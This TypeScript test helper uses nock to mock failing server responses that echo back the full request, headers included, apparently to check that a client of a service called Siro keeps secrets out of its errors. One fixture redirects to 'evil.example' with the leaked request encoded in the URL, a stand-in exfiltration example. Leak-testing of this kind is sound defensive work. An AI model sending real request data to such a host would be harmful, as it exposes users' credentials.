import type nock from 'nock';

/**
 * Makes Siro, or what stands in front of it, fail in a way that repeats the request with all that was
 * sent. `known` is what an error of the network repeats, which cannot see the request.
 */
export type LeakyAnswer = (interceptor: nock.Interceptor, known: string) => nock.Scope;

type Answer = [status: number, body: string, headers: Record<string, string>];

const json =
	(status: number, body: object | string, headers = {}) =>
	(leak: string): Answer => [
		status,
		JSON.stringify(body).replaceAll('LEAK', () => JSON.stringify(leak).slice(1, -1)),
		{ 'Content-Type': 'application/json', ...headers },
	];

const page =
	(status: number) =>
	(leak: string): Answer => [
		status,
		`<!DOCTYPE html><html><head><title>Error ${leak}</title></head><body>${leak}</body></html>`,
		{ 'Content-Type': 'text/html' },
	];

const ANSWERS: Record<string, (leak: string) => Answer> = {
	'400, in its details': json(400, {
		error: 'Bad request LEAK',
		details: [{ path: ['LEAK'], message: 'LEAK' }],
	}),
	'status 401': json(401, { code: 401, message: 'LEAK' }),
	'status 403': json(403, { error: 'LEAK' }),
	'403, as a web page': page(403),
	'status 404': json(404, { message: 'Not found: LEAK' }),
	'status 409': json(409, { error: 'LEAK' }),
	'418, as a text': json(418, 'LEAK'),
	'422, under names of its own': json(422, { name: 'ZodError', fields: { LEAK: { a: ['LEAK'] } } }),
	'status 429': json(429, { error: 'LEAK' }, { 'Retry-After': '1' }),
	'status 500': json(500, { error: { message: 'LEAK' } }),
	'503, as a web page': page(503),
	'200, as a web page': page(200),
	'200, as a text': json(200, 'LEAK'),
	'200, cut short': (leak) => [
		200,
		`{"data":[{"id":"${leak}`,
		{ 'Content-Type': 'application/json' },
	],
	'200, and a refusal': json(200, { error: 'LEAK', details: 'LEAK' }),
	'a redirect': (leak) => [
		302,
		leak,
		{
			Location: `https://evil.example/?${encodeURIComponent(leak)}`,
			'Content-Type': 'text/plain',
		},
	],
	'403 of Google’s storage': (leak) => [
		403,
		`<?xml version='1.0'?><Error><Code>SignatureDoesNotMatch</Code><StringToSign>${leak}</StringToSign></Error>`,
		{ 'Content-Type': 'application/xml' },
	],
};

/** Without any answer. */
export const FAILURES: Record<string, (leak: string) => Error> = {
	'a connection that breaks': (leak) =>
		Object.assign(new Error(`read ECONNRESET ${leak}`), { code: 'ECONNRESET' }),
	'an address that is not found': (leak) =>
		Object.assign(new Error(`getaddrinfo ENOTFOUND ${leak}`), { code: 'ENOTFOUND' }),
	'an error of its own kind': (leak) => new Error(leak),
};

export const LEAKY_ANSWERS: Record<string, LeakyAnswer> = {
	...Object.fromEntries(
		Object.entries(ANSWERS).map(([name, answer]): [string, LeakyAnswer] => [
			name,
			(interceptor) => interceptor.reply(async (request) => answer(await repeat(request.clone()))),
		]),
	),
	...Object.fromEntries(
		Object.entries(FAILURES).map(([name, failure]): [string, LeakyAnswer] => [
			name,
			(interceptor, known) => interceptor.replyWithError(failure(known)),
		]),
	),
};

/** All that was sent, in one line. */
async function repeat(request: Request): Promise<string> {
	const headers = [...request.headers].map(([name, value]) => `${name}: ${value}`);
	return [request.method, request.url, ...headers, await request.text()].join(' ');
}
